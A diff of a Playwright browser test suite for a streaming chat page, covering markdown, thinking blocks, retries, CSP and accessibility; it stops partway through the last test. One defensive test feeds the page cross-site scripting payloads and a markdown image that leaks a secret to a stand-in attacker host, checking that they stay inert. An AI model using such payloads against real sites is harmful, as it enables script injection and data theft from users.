@@ -1,16 +1,21 @@
 """The chat page in a real headless Chromium (Debian's), driven by Playwright, against a live gunicorn.
 
-Every assertion is on what a person sees: the text in the page, its notes, its controls.
-Without Chromium or playwright these tests skip on a developer's machine and fail in CI.
+Every assertion is on what a person sees, or a screen reader hears: the text in the page, its notes,
+its controls, Chromium's accessibility tree. Without Chromium or playwright these tests skip on a
+developer's machine and fail in CI.
 """
 
 import json
+import re
 import statistics
 import time
+from pathlib import Path
 
 import pytest
 
-from live_servers import ROOT, unavailable
+from app import PAGE_CSP
+from browser import fresh_page
+from live_servers import ROOT, Gunicorns, unavailable
 
 try:
     from playwright.sync_api import expect
@@ -19,6 +24,7 @@ except ImportError:
 
 PHONE = {"width": 390, "height": 844}
 ARTIFACTS = ROOT / "test-artifacts"
+AXE = Path(__file__).parent / "vendor" / "axe.min.js"  # axe-core 4.14.1 (MPL-2.0), for the tests only
 
 
 @pytest.fixture
@@ -48,6 +54,21 @@ def reply_note(page):
     return reply(page).locator(".note")
 
 
+def questions(page):
+    """The person's messages, as shown."""
+    return page.locator("#conversation .message.user .text")
+
+
+def thinking(page):
+    """The "Thinking" block of the latest reply."""
+    return reply(page).locator("details.thinking")
+
+
+def sent_messages(upstream, index=-1):
+    """The messages the upstream received in request `index`."""
+    return upstream.received[index].body["messages"]
+
+
 # --- Streaming ---------------------------------------------------------------------------------
 
 
@@ -64,12 +85,13 @@ def test_first_words_show_while_the_upstream_is_still_sending(chat_page, upstrea
 
 
 def test_reply_is_exact_and_its_usage_shown(chat_page, upstream):
-    tokens = ["Hel", "lo", ", wörld\n", "  indented", ' "quoted" \\ ', "응답", " 🙂", "\n\ntail"]
+    tokens = ["Hel", "lo", ", wörld", ' "quoted" \\ ', "응답", " 🙂", "\nnext", " line", "\n\ntail"]
     upstream.reset(tokens=tokens)
     say(chat_page, "Hi")
 
     expect(reply_note(chat_page)).to_have_text("14 tokens: 9 prompt, 5 reply.")
-    assert reply_text(chat_page).text_content() == "".join(tokens)
+    # A single new line is a line break, a blank line a new paragraph; the words are exact.
+    assert reply_text(chat_page).inner_text() == 'Hello, wörld "quoted" \\ 응답 🙂\nnext line\n\ntail'
     # The reply is inside the polite live region screen readers follow.
     log = chat_page.get_by_role("log", name="Conversation")
     assert log.get_attribute("aria-live") == "polite"
@@ -90,7 +112,7 @@ def test_the_conversation_is_sent_whole_and_enter_sends(chat_page, upstream):
     box.press("Enter")
     expect(reply_text(chat_page)).to_have_text("Second.")
 
-    assert upstream.received[1].body["messages"] == [
+    assert sent_messages(upstream) == [
         {"role": "user", "content": "One"},
         {"role": "assistant", "content": "First answer."},
         {"role": "user", "content": "Two\nlines"},
@@ -107,12 +129,36 @@ def test_stop_keeps_the_partial_reply_and_hangs_up_upstream(chat_page, upstream)
 
     expect(reply_note(chat_page)).to_have_text("Stopped.")
     assert upstream.received[0].hung_up.wait(5), "the server did not close its upstream request"
-    partial = reply_text(chat_page).text_content()
-    assert partial.startswith("w0 w1 w2 w3 ") and partial != "".join(tokens)
+    partial = reply_text(chat_page).inner_text()
+    assert partial.startswith("w0 w1 w2 w3") and len(partial.split()) < len(tokens)
     time.sleep(0.3)  # three more token intervals: nothing more may appear
-    assert reply_text(chat_page).text_content() == partial
+    assert reply_text(chat_page).inner_text() == partial
     expect(chat_page.get_by_label("Message")).to_be_enabled()
     expect(chat_page.get_by_role("button", name="Send")).to_be_visible()
+
+
+def test_escape_stops_a_reply_and_gives_the_keyboard_back_to_the_box(chat_page, upstream):
+    upstream.reset(tokens=[f"w{i} " for i in range(50)], delay=0.1)
+    say(chat_page, "Go on")
+    expect(chat_page.get_by_role("button", name="Stop")).to_be_focused()  # the box is locked: Stop is next
+    expect(reply_text(chat_page)).to_contain_text("w2")
+
+    chat_page.keyboard.press("Escape")
+
+    expect(reply_note(chat_page)).to_have_text("Stopped.")
+    assert upstream.received[0].hung_up.wait(5), "the server did not close its upstream request"
+    expect(chat_page.get_by_label("Message")).to_be_focused()
+
+
+def test_focus_is_back_in_the_box_when_a_reply_is_complete(chat_page, upstream):
+    upstream.reset(tokens=["One ", "two."], delay=0.2)
+    say(chat_page, "Hi")
+    expect(chat_page.get_by_role("button", name="Stop")).to_be_focused()
+
+    expect(reply_note(chat_page)).to_contain_text("tokens")
+    expect(chat_page.get_by_label("Message")).to_be_focused()
+    chat_page.keyboard.type("typed straight away")
+    expect(chat_page.get_by_label("Message")).to_have_value("typed straight away")
 
 
 def test_heartbeats_in_a_silence_are_not_shown(fast_gunicorn, page, upstream):
@@ -122,7 +168,7 @@ def test_heartbeats_in_a_silence_are_not_shown(fast_gunicorn, page, upstream):
     say(page, "Hi")
 
     expect(reply_note(page)).to_contain_text("tokens")
-    assert reply_text(page).text_content() == "after the silence"
+    assert reply_text(page).inner_text() == "after the silence"
 
 
 @pytest.mark.parametrize(
@@ -139,7 +185,7 @@ def test_an_upstream_failure_mid_reply_is_shown(chat_page, upstream, script, mes
 
     expect(reply_note(chat_page)).to_have_text(message)
     assert reply(chat_page).get_attribute("data-state") == "error"
-    assert reply_text(chat_page).text_content() == "tok0 tok1 "  # what came before stays
+    assert reply_text(chat_page).inner_text() == "tok0 tok1"  # what came before stays
     assert "internal upstream detail" not in chat_page.content()
 
 
@@ -151,14 +197,363 @@ def test_rate_limit_says_when_to_try_again(chat_page, upstream):
     expect(chat_page.get_by_label("Message")).to_have_value("Hi")  # back in the box, ready to resend
 
 
-def test_model_output_is_text_never_markup(chat_page, upstream):
-    tokens = ["<img src=x onerror=window.__xss=1>", " <b>bold</b>", " <script>window.__xss=2</script>"]
-    upstream.reset(tokens=tokens)
-    say(chat_page, "Hi")
+# --- Thinking ----------------------------------------------------------------------------------
 
-    expect(reply_text(chat_page)).to_have_text("".join(tokens))
-    assert chat_page.locator("#conversation img, #conversation b, #conversation script").count() == 0
+
+def test_thinking_shows_live_then_folds_away_when_the_answer_starts(chat_page, upstream):
+    upstream.reset(reasoning=["Let me ", "think ", "about it."], tokens=["The answer ", "is 42."], delay=0.4)
+    say(chat_page, "Question")
+
+    block = thinking(chat_page)
+    expect(block.locator("p")).to_contain_text("Let me")  # live, while the model thinks
+    expect(block).to_have_js_property("open", True)
+    expect(block.locator("summary")).to_have_text("Thinking…")
+    assert reply_text(chat_page).inner_text() == ""  # no answer yet: the thinking is not the answer
+
+    expect(reply_text(chat_page)).to_have_text("The answer is 42.")
+    expect(block).to_have_js_property("open", False)  # folded once the answer started
+    expect(block.locator("p")).to_be_hidden()
+    # The first thought came 0.4 s in, the answer 1.2 s later.
+    expect(block.locator("summary")).to_have_text(re.compile(r"^Thought for [12] seconds?$"))
+    block.locator("summary").click()  # and it opens again
+    expect(block.locator("p")).to_be_visible()
+    expect(block.locator("p")).to_have_text("Let me think about it.")
+    # Above the answer, not inside it.
+    assert reply(chat_page).evaluate("item => item.querySelector('details').nextElementSibling.className") == "text"
+
+    upstream.reset(tokens=["Next answer."])
+    say(chat_page, "And then?")
+    expect(reply_text(chat_page)).to_have_text("Next answer.")
+    # The model never gets its thinking back as part of the conversation.
+    assert sent_messages(upstream) == [
+        {"role": "user", "content": "Question"},
+        {"role": "assistant", "content": "The answer is 42."},
+        {"role": "user", "content": "And then?"},
+    ]
+
+
+def test_a_reply_stopped_while_thinking_keeps_the_thinking_open(chat_page, upstream):
+    upstream.reset(reasoning=[f"step {i}. " for i in range(40)], tokens=["never"], delay=0.1)
+    say(chat_page, "Hard one")
+    expect(thinking(chat_page).locator("p")).to_contain_text("step 2.")
+
+    chat_page.get_by_role("button", name="Stop").click()
+
+    expect(reply_note(chat_page)).to_have_text("Stopped before the model answered.")
+    expect(thinking(chat_page)).to_have_js_property("open", True)  # nothing else to read: left open
+    expect(thinking(chat_page).locator("summary")).to_have_text(re.compile(r"^Thought for \d+ seconds?$"))
+
+
+# --- Markdown ----------------------------------------------------------------------------------
+
+MARKDOWN_REPLY = [
+    "## Steps\n\n",
+    "1. Install **flask**\n",
+    "2. Run *it* with `gunicorn`\n\n",
+    "See [the docs](https://flask.palletsprojects.com/) or https://example.com/x.\n\n",
+    "```python\n",
+    "def hello(name):\n",
+    '    return f"<b>{name}</b>"\n',
+    "```\n\n",
+    "| Worker | Streams |\n",
+    "|:-------|--------:|\n",
+    "| gevent | 10000 |\n",
+    "| sync | 1 |\n",
+]
+
+
+def test_markdown_is_shown_as_headings_lists_links_code_and_tables(chat_page, upstream):
+    upstream.reset(tokens=MARKDOWN_REPLY, delay=0.02)
+    say(chat_page, "How do I run it?")
+    expect(reply_note(chat_page)).to_contain_text("tokens")
+    answer = reply_text(chat_page)
+
+    expect(answer.get_by_role("heading", name="Steps")).to_be_visible()
+    expect(answer.locator("ol > li")).to_have_text(["Install flask", "Run it with gunicorn"])
+    expect(answer.locator("ol strong")).to_have_text("flask")
+    expect(answer.locator("ol em")).to_have_text("it")
+    expect(answer.locator("ol code")).to_have_text("gunicorn")
+    docs = answer.get_by_role("link", name="the docs")
+    expect(docs).to_have_attribute("href", "https://flask.palletsprojects.com/")
+    expect(docs).to_have_attribute("target", "_blank")
+    expect(docs).to_have_attribute("rel", "noopener noreferrer")
+    expect(answer.get_by_role("link", name="https://example.com/x")).to_have_attribute("href", "https://example.com/x")
+    code = answer.locator("pre code")
+    assert code.text_content() == 'def hello(name):\n    return f"<b>{name}</b>"'
+    expect(answer.locator("b")).to_have_count(0)  # the <b> inside the code is code
+    expect(answer.locator("th")).to_have_text(["Worker", "Streams"])
+    expect(answer.locator("td")).to_have_text(["gevent", "10000", "sync", "1"])
+    streams = answer.locator("td").nth(1)
+    assert streams.evaluate("cell => getComputedStyle(cell).textAlign") == "right"  # the `--------:` column
+
+
+def test_copy_puts_a_code_block_on_the_clipboard(chat_page, upstream, gunicorn):
+    chat_page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=gunicorn.url)
+    upstream.reset(tokens=MARKDOWN_REPLY)
+    say(chat_page, "How do I run it?")
+    expect(reply_note(chat_page)).to_contain_text("tokens")
+
+    copy = reply(chat_page).locator(".code-block").get_by_role("button")  # named "Copy", then "Copied"
+    expect(copy).to_have_text("Copy")
+    copy.click()
+
+    expect(copy).to_have_text("Copied")
+    expect(copy).to_be_focused()  # the keyboard stays where it was
+    clipboard = chat_page.evaluate("navigator.clipboard.readText()")
+    assert clipboard == 'def hello(name):\n    return f"<b>{name}</b>"'
+    expect(copy).to_have_text("Copy", timeout=5000)
+
+
+HOSTILE_REPLY = [
+    "<img src=x onerror=window.__xss=1>\n\n",
+    "<script>window.__xss=2</script>\n\n",
+    'Inline <b onmouseover="window.__xss=3">bold</b> and <a href="javascript:window.__xss=4">a tag</a>.\n\n',
+    "[click me](javascript:window.__xss=5) and [data](data:text/html,<script>window.__xss=6</script>) ",
+    "and [relative](/api/chat).\n\n",
+    "![tracker](https://attacker.example/leak.png?secret=42)\n\n",
+    '<iframe src="https://attacker.example/"></iframe>',
+]
+
+
+def test_hostile_markdown_never_becomes_markup_script_or_a_request(chat_page, upstream):
+    requests = []
+    chat_page.on("request", lambda request: requests.append(request.url))
+    upstream.reset(tokens=HOSTILE_REPLY)
+    say(chat_page, "Hi")
+    expect(reply_note(chat_page)).to_contain_text("tokens")
+    answer = reply_text(chat_page)
+
+    # Raw HTML is shown as the text it is.
+    expect(answer).to_contain_text("<img src=x onerror=window.__xss=1>")
+    expect(answer).to_contain_text("<script>window.__xss=2</script>")
+    expect(answer).to_contain_text('<b onmouseover="window.__xss=3">bold</b>')
+    expect(answer).to_contain_text('<iframe src="https://attacker.example/"></iframe>')
+    expect(chat_page.locator("#conversation :is(img, script, iframe, b, [onerror], [onmouseover])")).to_have_count(0)
+    # Only http(s) links, each opening a new tab without a referrer or a handle on this page.
+    expect(answer).to_contain_text("click me and data and relative.")
+    links = answer.get_by_role("link")
+    expect(links).to_have_count(1)
+    image = answer.get_by_role("link", name="Image: tracker")  # an outside image, shown as a link
+    expect(image).to_have_attribute("href", "https://attacker.example/leak.png?secret=42")
+    expect(image).to_have_attribute("target", "_blank")
+    expect(image).to_have_attribute("rel", "noopener noreferrer")
+
+    answer.get_by_text("click me").click()
+    chat_page.get_by_text("bold</b>").hover()
     assert chat_page.evaluate("window.__xss") is None
+    assert not [url for url in requests if "attacker.example" in url]
+
+
+# --- A conversation that survives ---------------------------------------------------------------
+
+
+def test_a_reload_restores_the_conversation_and_new_chat_clears_it(chat_page, upstream):
+    upstream.reset(tokens=["**Bold** answer.\n\n", "```\ncode\n```"])
+    say(chat_page, "First question")
+    expect(reply_note(chat_page)).to_contain_text("tokens")
+
+    chat_page.reload()
+
+    expect(questions(chat_page)).to_have_text(["First question"])
+    expect(reply_text(chat_page).locator("strong")).to_have_text("Bold")
+    expect(reply_text(chat_page).locator("pre code")).to_have_text("code")
+    expect(reply_note(chat_page)).to_have_text("14 tokens: 9 prompt, 5 reply.")
+    upstream.reset(tokens=["Second."])
+    say(chat_page, "Second question")
+    expect(reply_note(chat_page)).to_contain_text("tokens")
+    assert sent_messages(upstream) == [
+        {"role": "user", "content": "First question"},
+        {"role": "assistant", "content": "**Bold** answer.\n\n```\ncode\n```"},
+        {"role": "user", "content": "Second question"},
+    ]
+
+    chat_page.get_by_role("button", name="New chat").click()
+
+    expect(chat_page.locator("#conversation .message")).to_have_count(0)
+    expect(chat_page.get_by_label("Message")).to_be_focused()
+    chat_page.reload()
+    expect(chat_page.get_by_role("button", name="New chat")).to_be_visible()
+    expect(chat_page.locator("#conversation .message")).to_have_count(0)
+    say(chat_page, "Fresh start")
+    expect(reply_text(chat_page)).to_have_text("Second.")
+    assert sent_messages(upstream) == [{"role": "user", "content": "Fresh start"}]
+
+
+def test_a_reload_restores_the_thinking_folded(chat_page, upstream):
+    upstream.reset(reasoning=["Weighing ", "it up."], tokens=["Done."], delay=0.1)
+    say(chat_page, "Think")
+    expect(reply_note(chat_page)).to_contain_text("tokens")
+
+    chat_page.reload()
+
+    block = thinking(chat_page)
+    expect(block.locator("summary")).to_have_text(re.compile(r"^Thought for \d+ seconds?$"))
+    expect(block).to_have_js_property("open", False)
+    block.locator("summary").click()
+    expect(block.locator("p")).to_have_text("Weighing it up.")
+    expect(reply_text(chat_page)).to_have_text("Done.")
+
+
+# --- No dead ends --------------------------------------------------------------------------------
+
+
+def test_retry_sends_the_last_message_again_after_an_error(chat_page, upstream):
+    upstream.reset(tokens=["tok0 ", "tok1 ", "tok2 "], cut_after=2)
+    say(chat_page, "Hi")
+    expect(reply_note(chat_page)).to_have_text("The connection to the model was lost.")
+    retry = chat_page.get_by_role("button", name="Retry")
+    expect(retry).to_be_focused()  # the way out is one key away
+
+    upstream.reset(tokens=["Whole ", "answer."])
+    retry.press("Enter")
+
+    expect(reply_text(chat_page)).to_have_text("Whole answer.")
+    expect(questions(chat_page)).to_have_text(["Hi"])  # the turn was replaced, not repeated
+    assert sent_messages(upstream) == [{"role": "user", "content": "Hi"}]  # without the cut-off reply
+    expect(chat_page.get_by_role("button", name="Retry")).to_have_count(0)
+
+
+def test_retry_after_a_stop_and_after_a_refusal(chat_page, upstream):
+    upstream.reset(tokens=[f"w{i} " for i in range(50)], delay=0.1)
+    say(chat_page, "Go on")
+    expect(reply_text(chat_page)).to_contain_text("w2")
+    chat_page.get_by_role("button", name="Stop").click()
+    expect(reply_note(chat_page)).to_have_text("Stopped.")
+
+    upstream.reset(status=429, headers={"Retry-After": "7"})
+    chat_page.get_by_role("button", name="Retry").click()
+    expect(reply_note(chat_page)).to_contain_text("The model is busy right now.")
+    assert sent_messages(upstream) == [{"role": "user", "content": "Go on"}]
+    expect(chat_page.get_by_label("Message")).to_have_value("Go on")
+
+    upstream.reset(tokens=["Finally."])
+    chat_page.get_by_role("button", name="Retry").click()
+
+    expect(reply_text(chat_page)).to_have_text("Finally.")
+    expect(chat_page.get_by_label("Message")).to_have_value("")  # sent: no longer waiting in the box
+    expect(questions(chat_page)).to_have_text(["Go on"])
+    assert sent_messages(upstream) == [{"role": "user", "content": "Go on"}]
+
+
+@pytest.fixture(scope="module")
+def small_gunicorn(fake_upstream_server, tmp_path_factory):
+    """gunicorn that takes at most 4 messages and 3,000 bytes per request: conversations outgrow it fast."""
+    with Gunicorns(tmp_path_factory, fake_upstream_server.url) as gunicorns:
+        yield gunicorns.start({"CHAT_MAX_MESSAGES": "4", "CHAT_MAX_BODY_BYTES": "3000"}, name="small")
+
+
+def test_too_many_messages_offers_to_drop_the_oldest_turns_or_start_anew(small_gunicorn, page, upstream):
+    """The issue's reproduction: with CHAT_MAX_MESSAGES=4, turn 3 and every later turn failed."""
+    upstream.reset(tokens=["Answer."])
+    page.goto(small_gunicorn.url + "/")
+    for question in ("One", "Two"):
+        say(page, question)
+        expect(reply_note(page)).to_contain_text("tokens")
+
+    say(page, "Three")  # 5 messages
+
+    expect(reply_note(page)).to_have_text(
+        "The conversation is too long to send. Drop the oldest turns or start a new chat; your message is sent again."
+    )
+    assert len(upstream.received) == 2  # refused by the service, never sent to the model
+    drop = page.get_by_role("button", name="Drop oldest turns")
+    expect(drop).to_be_focused()
+    drop.click()
+    expect(reply_text(page)).to_have_text("Answer.")
+    expect(reply_note(page)).to_contain_text("tokens")
+    assert sent_messages(upstream) == [
+        {"role": "user", "content": "Two"},
+        {"role": "assistant", "content": "Answer."},
+        {"role": "user", "content": "Three"},
+    ]
+    expect(questions(page)).to_have_text(["Two", "Three"])
+    expect(page.locator(".dropped")).to_be_visible()
+
+    say(page, "Four")  # 5 messages again
+    expect(reply_note(page)).to_contain_text("The conversation is too long to send.")
+    reply(page).get_by_role("button", name="New chat").click()  # the one offered under the refusal
+
+    expect(reply_text(page)).to_have_text("Answer.")
+    assert sent_messages(upstream) == [{"role": "user", "content": "Four"}]
+    expect(questions(page)).to_have_text(["Four"])
+
+
+def test_a_body_too_large_offers_to_drop_the_oldest_turns(small_gunicorn, page, upstream):
+    upstream.reset(tokens=["x" * 99 + " "] * 32)  # a 3,200-byte answer: the next request is over 3,000
+    page.goto(small_gunicorn.url + "/")
+    say(page, "Long answer, please")
+    expect(reply_note(page)).to_contain_text("tokens")
+
+    upstream.reset(tokens=["Short."])
+    say(page, "Next")
+
+    expect(reply_note(page)).to_contain_text("The conversation is too long to send.")
+    assert upstream.received == []
+    page.get_by_role("button", name="Drop oldest turns").click()
+    expect(reply_text(page)).to_have_text("Short.")
+    assert sent_messages(upstream) == [{"role": "user", "content": "Next"}]
+    page.reload()  # what was dropped stays dropped
+    expect(questions(page)).to_have_text(["Next"])
+
+
+def test_a_single_message_too_long_comes_back_to_be_shortened(small_gunicorn, page, upstream):
+    page.goto(small_gunicorn.url + "/")
+    say(page, "y" * 4000)
+
+    shorten = "The conversation is too long to send. Shorten the message and send it again."
+    expect(reply_note(page)).to_have_text(shorten)
+    expect(page.get_by_label("Message")).to_have_value("y" * 4000)
+    expect(page.get_by_label("Message")).to_be_focused()
+    expect(page.get_by_role("button", name="Drop oldest turns")).to_have_count(0)
+
+
+def test_the_models_context_too_long_offers_the_way_out(chat_page, upstream):
+    """The service's answer when the model refuses the conversation's length (its code, not its words)."""
+    upstream.reset(tokens=["Fine."])
+    say(chat_page, "One")
+    expect(reply_note(chat_page)).to_contain_text("tokens")
+    refusal = {"message": "This model's maximum context length is 8192 tokens.", "code": "context_too_long"}
+    body = json.dumps({"error": refusal})
+    chat_page.route("**/api/chat", lambda route: route.fulfill(status=400, body=body, content_type="application/json"))
+
+    say(chat_page, "Two")
+
+    expect(reply_note(chat_page)).to_contain_text("The conversation is too long for the model.")
+    chat_page.unroute("**/api/chat")
+    chat_page.get_by_role("button", name="Drop oldest turns").click()
+    expect(reply_text(chat_page)).to_have_text("Fine.")
+    assert sent_messages(upstream) == [{"role": "user", "content": "Two"}]
+
+
+# --- Models -------------------------------------------------------------------------------------
+
+
+def test_the_model_picker_offers_the_services_models_and_remembers_the_choice(chat_page, upstream):
+    """The session's gunicorn allows CHAT_MODELS=gpt-test,other, with gpt-test the default."""
+    picker = chat_page.get_by_label("Model")
+    expect(picker).to_have_value("gpt-test")
+    expect(picker.locator("option")).to_have_text(["gpt-test", "other"])
+
+    picker.select_option("other")
+    upstream.reset(tokens=["Hi."])
+    say(chat_page, "Hi")
+    expect(reply_text(chat_page)).to_have_text("Hi.")
+    assert upstream.received[0].body["model"] == "other"
+
+    chat_page.reload()
+    expect(chat_page.get_by_label("Model")).to_have_value("other")
+
+
+def test_no_model_picker_when_the_service_allows_one_model(fast_gunicorn, page, upstream):
+    with page.expect_response("**/api/models"):
+        page.goto(fast_gunicorn.url + "/")
+    upstream.reset(tokens=["Hi."])
+    with page.expect_request("**/api/chat") as request:
+        say(page, "Hi")
+
+    expect(reply_text(page)).to_have_text("Hi.")
+    expect(page.get_by_label("Model")).to_be_hidden()
+    assert "model" not in json.loads(request.value.post_data)  # the service's default answers
 
 
 # --- Errors before the stream, as the service (or a proxy in front of it) answers them ----------
@@ -175,7 +570,7 @@ def test_model_output_is_text_never_markup(chat_page, upstream):
         (429, "rate_limited", "x", None, "The model is busy right now. Please try again shortly."),
         (504, "upstream_timeout", "The model stopped answering.", None, "The model stopped answering."),
         (413, "body_too_large", "x", None, "The conversation is too long to send."),
-        (400, "upstream_rejected", "Context too long.", None, "The request was refused: Context too long."),
+        (400, "upstream_rejected", "Bad parameter.", None, "The request was refused: Bad parameter."),
         (502, None, None, None, "The server answered with an error (HTTP 502)."),  # a proxy's own HTML page
     ],
 )
@@ -208,6 +603,7 @@ def test_a_token_is_asked_for_and_kept_when_the_server_wants_one(token_gunicorn,
 
     say(page, "Hi")
     expect(reply_note(page)).to_have_text("This chat needs an access token. Enter it below and send again.")
+    expect(page.get_by_label("Access token")).to_be_focused()
     page.get_by_label("Access token").fill("wrong")
     page.get_by_label("Message").press("Enter")  # the message came back to the box
     expect(reply_note(page)).to_have_text("The access token was not accepted. Check it below and send again.")
@@ -215,6 +611,7 @@ def test_a_token_is_asked_for_and_kept_when_the_server_wants_one(token_gunicorn,
     page.get_by_label("Message").press("Enter")
 
     expect(reply_text(page)).to_have_text("Welcome.")
+    expect(questions(page)).to_have_text(["Hi"])  # the refused tries gave way to the answered one
     assert len(upstream.received) == 1  # the refused tries never reached the model
     page.reload()  # kept for the tab's life
     expect(page.get_by_label("Access token")).to_have_value("s3cret")
@@ -222,34 +619,41 @@ def test_a_token_is_asked_for_and_kept_when_the_server_wants_one(token_gunicorn,
 
 # --- The stream parser on its own ---------------------------------------------------------------
 
+PARSER = """async ([text, bytesPerRead]) => {
+    const bytes = new TextEncoder().encode(text);
+    const body = new ReadableStream({
+        start(controller) {
+            for (let i = 0; i < bytes.length; i += bytesPerRead) controller.enqueue(bytes.slice(i, i + bytesPerRead));
+            controller.close();
+        },
+    });
+    const events = [];
+    for await (const data of readEvents(body)) events.push(data);
+    return events;
+}"""
 
-def test_the_parser_survives_any_split_of_the_stream(page, gunicorn):
-    """Feed readEvents() one byte per read: lines, \\r\\n pairs and UTF-8 characters all split."""
-    page.goto(gunicorn.url + "/")
+
+@pytest.mark.parametrize("bytes_per_read", [1, 2, 3, 1000], ids=["1-byte", "2-byte", "3-byte", "whole"])
+def test_the_parser_reads_every_line_ending_and_any_split_of_the_stream(chat_page, bytes_per_read):
+    """\\n, \\r\\n and \\r all end lines (the SSE spec allows each); comments need no blank line.
+
+    One byte per read splits every line, every \\r\\n pair and every UTF-8 character.
+    """
     stream = (
-        ": ok\r\n\r\n"
+        ": ok\n"  # the service's opening comment, without a blank line of its own
         'data: {"content": "응답"}\r\n\r\n'
-        ": ping\n"
+        ": ping\r"
+        'data: {"content": "cr"}\r\r'
+        "data: line one\r\n"  # a \r\n split between two reads is one line end, not two
+        "data: line two\r\n\r\n"
+        ": ping\r\n"
         'data: {"content": "a\\nb"}\n\n'
-        "data: [DONE]\n\n"
+        "data:[DONE]\n\n"
         "data: never ended"
     )
-    events = page.evaluate(
-        """async (text) => {
-            const bytes = new TextEncoder().encode(text);
-            const body = new ReadableStream({
-                start(controller) {
-                    for (const byte of bytes) controller.enqueue(new Uint8Array([byte]));
-                    controller.close();
-                },
-            });
-            const events = [];
-            for await (const data of readEvents(body)) events.push(data);
-            return events;
-        }""",
-        stream,
-    )
-    assert events == ['{"content": "응답"}', '{"content": "a\\nb"}', "[DONE]"]
+    events = chat_page.evaluate(PARSER, [stream, bytes_per_read])
+    expected = ['{"content": "응답"}', '{"content": "cr"}', "line one\nline two", '{"content": "a\\nb"}', "[DONE]"]
+    assert events == expected
 
 
 # --- Mounted in another app ----------------------------------------------------------------------
@@ -272,21 +676,154 @@ def test_the_page_works_under_a_url_prefix(host_app, page, upstream):
     assert upstream.received[0].path == "/v1/chat/completions"
 
 
+# --- Content-Security-Policy ---------------------------------------------------------------------
+
+WATCH_CSP = """
+    window.violations = [];
+    document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
+"""
+
+
+def test_the_page_works_under_a_csp_that_allows_nothing_inline_and_no_other_origin(page, gunicorn, upstream):
+    page.add_init_script(WATCH_CSP)
+    response = page.goto(gunicorn.url + "/")
+    policy = response.headers["content-security-policy"]
+    assert policy == PAGE_CSP
+    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
+    assert directives["default-src"] == "'none'"
+    for name in ("script-src", "style-src", "connect-src", "img-src"):
+        assert directives[name] == "'self'", name  # no 'unsafe-inline', no other origin
+
+    upstream.reset(tokens=MARKDOWN_REPLY)
+    say(page, "Hi")
+    expect(reply_text(page).locator("pre code")).to_contain_text("def hello")
+    assert page.evaluate("window.violations") == []  # the page needs nothing the policy forbids
+
+    # And it forbids what an injection would need: HTML from a string, inline script.
+    refused = page.evaluate(
+        """() => {
+            try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.__xss=1'>"); }
+            catch (error) { return error.name; }
+        }"""
+    )
+    assert refused == "TypeError"  # Trusted Types: no HTML from strings at all
+    assert "require-trusted-types-for" in page.evaluate("window.violations")
+    assert page.evaluate("window.__xss") is None
+
+
+@pytest.fixture
+def page_nginx(start_nginx, gunicorn):
+    """The shipped nginx.conf in front of the session's gunicorn: the page from nginx, the API through it."""
+    return start_nginx("nginx-page", [gunicorn])
+
+
+def test_nginx_serves_the_page_with_the_apps_csp_and_it_chats_through_nginx(page_nginx, page, upstream):
+    page.add_init_script(WATCH_CSP)
+    response = page.goto(page_nginx.url + "/")
+    assert response.headers["content-security-policy"] == PAGE_CSP  # nginx.conf says the same
+    assert response.headers["cache-control"] == "no-cache"  # served by nginx's location, not the app
+    upstream.reset(tokens=MARKDOWN_REPLY)
+    say(page, "Hi")
+    expect(reply_text(page).locator("td")).to_have_text(["gevent", "10000", "sync", "1"])
+    assert page.evaluate("window.violations") == []
+
+
+# --- Accessibility --------------------------------------------------------------------------------
+
+
+def accessible_texts(page):
+    """Every name and text in Chromium's accessibility tree: what a screen reader can read out."""
+    session = page.context.new_cdp_session(page)
+    texts = []
+    for node in session.send("Accessibility.getFullAXTree")["nodes"]:
+        for key in ("name", "value", "description"):
+            value = (node.get(key) or {}).get("value")
+            if isinstance(value, str) and value:
+                texts.append(value)
+    session.detach()
+    return texts
+
+
+def test_the_caret_is_shown_but_not_read_out(chat_page, upstream):
+    upstream.reset(tokens=[f"word{i} " for i in range(40)], delay=0.1)
+    say(chat_page, "Hi")
+    expect(reply_text(chat_page)).to_contain_text("word3")
+
+    caret = reply_text(chat_page).evaluate("text => getComputedStyle(text.lastElementChild, '::after').content")
+    assert "▍" in caret  # on screen, at the end of the words
+    texts = accessible_texts(chat_page)
+    assert any("word3" in text for text in texts)  # the tree holds the reply...
+    assert not [text for text in texts if "▍" in text]  # ...but not the caret
+
+
+@pytest.fixture
+def axe_page(browser):
+    """A page that lets axe-core's script in (it is injected, so the page's CSP would refuse it)."""
+    with fresh_page(browser, bypass_csp=True) as page:
+        yield page
+
+
+def run_axe(page):
+    """Run axe-core's WCAG 2.x A and AA rules on the page; return its violations, readable."""
+    if not page.evaluate("typeof axe !== 'undefined'"):
+        page.add_script_tag(path=AXE)
+    result = page.evaluate(
+        """async () => {
+            const tags = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"];
+            const result = await axe.run(document, { runOnly: { type: "tag", values: tags } });
+            return result.violations.map((v) => ({
+                rule: v.id,
+                nodes: v.nodes.map((n) => `${n.target.join(" ")}: ${n.failureSummary}`),
+            }));
+        }"""
+    )
+    return result
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_every_text_and_control_passes_axe_in_both_colour_schemes(axe_page, gunicorn, upstream, scheme):
+    """Contrast (WCAG AA), names and roles, on every state a reply can be in; screenshots of each scheme."""
+    page = axe_page
+    page.emulate_media(color_scheme=scheme)
+    page.add_init_script("sessionStorage.setItem('chat-token', 'shown')")  # shows the token row too
+    page.goto(gunicorn.url + "/")
+    expect(page.get_by_label("Model")).to_be_visible()
+
+    upstream.reset(reasoning=["Considering ", "the options."], tokens=MARKDOWN_REPLY, delay=0.01)
+    say(page, "How do I run it?")
+    expect(reply_note(page)).to_contain_text("tokens")
+    upstream.reset(tokens=["A partial ", "reply ", "that breaks"], cut_after=2)
+    say(page, "And then?")
+    expect(page.get_by_role("button", name="Retry")).to_be_visible()
+    violations = run_axe(page)  # a complete reply, folded thinking, an error with Retry
+    ARTIFACTS.mkdir(exist_ok=True)
+    page.screenshot(path=ARTIFACTS / f"chat-{scheme}.png")  # the window, as a person sees it
+
+    upstream.reset(reasoning=[f"thought {i}. " for i in range(30)], tokens=["never"], delay=0.2)
+    say(page, "Think hard")
+    expect(thinking(page).locator("p")).to_contain_text("thought 1.")
+    violations += run_axe(page)  # streaming: Stop, the open thinking, the caret
+    page.screenshot(path=ARTIFACTS / f"chat-{scheme}-thinking.png")
+    page.keyboard.press("Escape")
+
